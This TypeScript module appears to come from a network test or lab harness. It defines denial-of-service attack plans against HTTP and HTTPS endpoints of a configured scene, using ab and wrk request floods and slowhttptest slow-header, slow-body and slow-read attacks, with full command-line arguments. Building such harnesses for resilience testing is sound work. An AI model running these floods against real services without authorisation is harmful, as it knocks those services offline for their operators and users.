import type {Attack, AttackPlan, Scene} from "../configuration.ts";

function against(
  service: "http" | "https",
  tool: string,
  needs: string,
  seconds: number,
  argv: (url: string, scene: Scene) => string[]
): Attack {
  return {
    label: "DoS",
    tool,
    needs: [needs],
    against: [service],
    plan(scene): AttackPlan {
      const {address, port} = scene.endpoints[service];
      const command = argv(`${service}://${address}:${port}`, scene);
      return {commands: [command], seconds, to: [address], ports: [port]};
    }
  };
}

/** Many requests in a hurry. */
export const abFlood = against("http", "ab", "ab", 12, (url) => [
  "ab",
  "-q",
  "-n",
  "500",
  "-c",
  "40",
  `${url}/f/1.bin`
]);
export const wrkFlood = against("http", "wrk", "wrk", 8, (url) => [
  ...["wrk", "-t1", "-c", "50", "-d", "4s", "-H", "Connection: close", `${url}/f/2.bin`]
]);

/** Requests that never end: headers, bodies, answers read drop by drop. */
export const slowHeaders = against("http", "slow-headers", "slowhttptest", 22, (url) => [
  ...["slowhttptest", "-H", "-c", "120", "-r", "40", "-i", "3", "-x", "20", "-l", "18", "-t", "GET", "-u", `${url}/`]
]);
export const slowBody = against("http", "slow-body", "slowhttptest", 20, (url) => [
  ...["slowhttptest", "-B", "-c", "100", "-r", "30", "-i", "4", "-s", "8192", "-x", "10", "-l", "15", "-t", "POST"],
  ...["-u", `${url}/app/login`]
]);
export const slowRead = against("https", "slow-read", "slowhttptest", 20, (url) => [
  ...[
    "slowhttptest",
    "-X",
    "-c",
    "100",
    "-r",
    "30",
    "-w",
    "64",
    "-y",
    "128",
    "-n",
    "3",
    "-z",
    "32",
    "-k",
    "2",
    "-l",
    "15"
  ],
  ...["-u", `${url}/f/large.bin`]
]);
export const slowHeadersTls = against("https", "slow-headers-tls", "slowhttptest", 20, (url) => [
  ...["slowhttptest", "-H", "-c", "80", "-r", "20", "-i", "5", "-x", "12", "-l", "16", "-t", "GET", "-u", `${url}/app/`]
]);
